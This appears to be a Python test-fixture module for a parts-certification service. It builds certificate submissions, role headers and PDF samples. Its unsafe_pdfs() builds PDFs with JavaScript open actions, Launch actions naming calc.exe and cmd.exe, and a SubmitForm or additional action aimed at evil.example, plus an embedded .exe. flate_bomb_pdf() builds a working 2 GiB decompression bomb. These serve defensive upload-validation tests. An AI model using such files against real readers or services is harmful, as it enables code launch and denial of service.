"""Certification test data: certificates taken through the workflow, certificate PDFs safe and
unsafe, each role's headers.
"""

from __future__ import annotations

import io
import itertools
import struct
import uuid
import zlib
from collections.abc import Mapping
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import httpx
from fastapi.testclient import TestClient
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

from marketplace.roles import Role
from services.certification.app import create_app
from services.certification.settings import CertificationSettings
from services.common.clock import utcnow
from tests.databases import Databases
from tests.factories import FreshHeaders, as_supplier

# Minted on every use: a token lives 60 s, and these tests may run minutes after this import.
INSPECTOR = FreshHeaders(Role.INSPECTOR, "inspector-1")
ANONYMOUS = FreshHeaders(Role.ANONYMOUS, "anonymous")
BUYER = FreshHeaders(Role.BUYER, "buyer-1")
_serial = itertools.count(1)


def today() -> date:
    return utcnow().date()


def number_for(scheme: str) -> str:
    """A fresh number that fits the scheme's format."""
    n = next(_serial)
    emark = {"ECE_R90": "90R-01", "ECE_R10": "10R-06", "ECE_R112": "112R-00", "ECE_R148": "148R-00"}
    emark |= {"ECE_R149": "149R-00", "ECE_R100": "100R-03"}
    if scheme in emark:
        return f"E4 {emark[scheme]} {n:04d}/{n % 10000:04d}"
    if scheme == "IATF_16949":
        return f"{n:07d}"
    if scheme == "EAC_TR_CU_018":
        return f"ЕАЭС RU С-CN.АБ12.В.{n:05d}/24"
    if scheme == "CCC":
        return f"{2024011100000000 + n}"
    return f"{scheme}-REPORT-{n}"


def pdf_bytes(title: str = "certificate", pages: int = 1) -> bytes:
    return _written(_blank(title, pages))


def _blank(title: str = "certificate", pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": title})
    return writer


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    action.update({_name(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
    return action


def _with_link(action: DictionaryObject) -> bytes:
    writer = _blank()
    rect = ArrayObject([NumberObject(n) for n in (50, 50, 200, 80)])
    link = DictionaryObject(
        {_name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"), _name("/Rect"): rect, _name("/A"): action}
    )
    writer.add_annotation(0, link)
    return _written(writer)


def _with_catalog_entry(key: str, value: PdfObject) -> bytes:
    writer = _blank()
    writer._root_object[_name(key)] = value
    return _written(writer)


def _with_page_entry(key: str, value: PdfObject) -> bytes:
    writer = _blank()
    writer.pages[0][_name(key)] = value
    return _written(writer)


def _with_javascript_name_tree() -> bytes:
    writer = _blank()
    writer.add_open_action(JavaScript("app.alert('certificate')"))
    return _written(writer)


def _with_attachment() -> bytes:
    writer = _blank()
    writer.add_attachment("invoice.exe", b"MZ not really a program")
    return _written(writer)


def unsafe_pdfs() -> dict[str, tuple[bytes, str]]:
    """PDFs that would run or open something by themselves, each with what the refusal names."""
    return {
        "javascript name tree": (_with_javascript_name_tree(), "JavaScript"),
        "javascript on opening": (
            _with_catalog_entry("/OpenAction", _action("/JavaScript", JS="app.alert(1)")),
            "/OpenAction",
        ),
        "launch on opening": (_with_catalog_entry("/OpenAction", _action("/Launch", F="calc.exe")), "/OpenAction"),
        "page additional actions": (
            _with_page_entry("/AA", DictionaryObject({_name("/O"): _action("/URI", URI="https://evil.example")})),
            "additional actions",
        ),
        "link that launches": (_with_link(_action("/Launch", F="cmd.exe")), "Launch"),
        "link that submits a form": (_with_link(_action("/SubmitForm", F="https://evil.example")), "SubmitForm"),
        "embedded file": (_with_attachment(), "embedded files"),
    }


def pdf_with_harmless_navigation() -> bytes:
    """Opens at the first page fitted to the window, with a link to a web address: what many
    certificates have, and nothing runs."""
    writer = _blank()
    writer._root_object[_name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    rect = ArrayObject([NumberObject(n) for n in (50, 50, 200, 80)])
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): rect,
            _name("/A"): _action("/URI", URI="https://www.cqc.com.cn/verify"),
        }
    )
    writer.add_annotation(0, link)
    return _written(writer)


def flate_bomb_pdf(inflated_bytes: int = 2 * 1024**3) -> bytes:
    """A PDF of about 2 MB whose page content is a valid Flate stream of `inflated_bytes` zeros.

    Built without ever holding the zeros: after a full flush, deflate writes every further
    mebibyte of zeros as the same bytes, so one block is repeated; the zlib trailer's Adler-32
    of n zeros is (n mod 65521) << 16 | 1.
    """
    step = 1024 * 1024
    zeros = bytes(step)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    repeated = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    adler32 = (inflated_bytes % 65521) << 16 | 1
    body = first + repeated * (inflated_bytes // step - 1) + deflate.flush()
    stream = StreamObject()
    stream._data = b"\x78\xda" + body + struct.pack(">I", adler32)
    stream[_name("/Filter")] = _name("/FlateDecode")
    writer = _blank()
    writer.pages[0][_name("/Contents")] = writer._add_object(stream)
    return _written(writer)


def make_client(databases: Databases, tmp_path: Path, **overrides: Any) -> TestClient:
    settings = CertificationSettings(
        database_url=databases.migrated("certification"), document_dir=tmp_path / "documents", **overrides
    )
    return TestClient(create_app(settings))


def submit(
    client: httpx.Client,
    holder: uuid.UUID,
    *,
    scheme: str = "ECE_R90",
    number: str | None = None,
    categories: list[str] | None = None,
    part_ids: list[uuid.UUID] | None = None,
    oem_numbers: list[str] | None = None,
    valid_from: date | None = None,
    valid_until: date | None = None,
    headers: Mapping[str, str] | None = None,
    holder_name: str = "Chongqing Tongnan Reman Co.",
    expect: int = 201,
) -> dict[str, Any]:
    body = {
        "scheme": scheme,
        "number": number or number_for(scheme),
        "issuing_body": "RDW (E4) / TÜV Rheinland",
        "holder_id": str(holder),
        "holder_name": holder_name,
        "scope": {
            "part_ids": [str(p) for p in part_ids or []],
            "categories": categories if categories is not None else ([] if part_ids else ["brake_pads"]),
            "oem_numbers": oem_numbers or [],
        },
        "valid_from": (valid_from or today() - timedelta(days=30)).isoformat(),
        "valid_until": (valid_until or today() + timedelta(days=365)).isoformat(),
        "notes": "internal: reviewed scan quality",
    }
    response = client.post("/certificates", json=body, headers=headers or as_supplier(holder))
    assert response.status_code == expect, response.text
    result: dict[str, Any] = response.json()
    return result


def upload(
    client: httpx.Client, certificate_id: str, content: bytes, headers: Mapping[str, str], expect: int = 200
) -> dict[str, Any]:
    response = client.post(
        f"/certificates/{certificate_id}/document",
        files={"file": ("certificate.pdf", content, "application/pdf")},
        headers=headers,
    )
    assert response.status_code == expect, response.text
    result: dict[str, Any] = response.json()
    return result


def certify(client: TestClient, holder: uuid.UUID, **kwargs: Any) -> dict[str, Any]:
    """A certificate through the whole workflow: submitted, document uploaded, approved."""
    created = submit(client, holder, **kwargs)
    upload(client, created["id"], pdf_bytes(created["number"]), as_supplier(holder))
    response = client.post(f"/certificates/{created['id']}/approve", json={}, headers=INSPECTOR)
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


def quality_certified(client: TestClient, holder: uuid.UUID) -> dict[str, Any]:
    """The supplier-level ISO 9001 every market asks for."""
    return certify(client, holder, scheme="ISO_9001", categories=[])
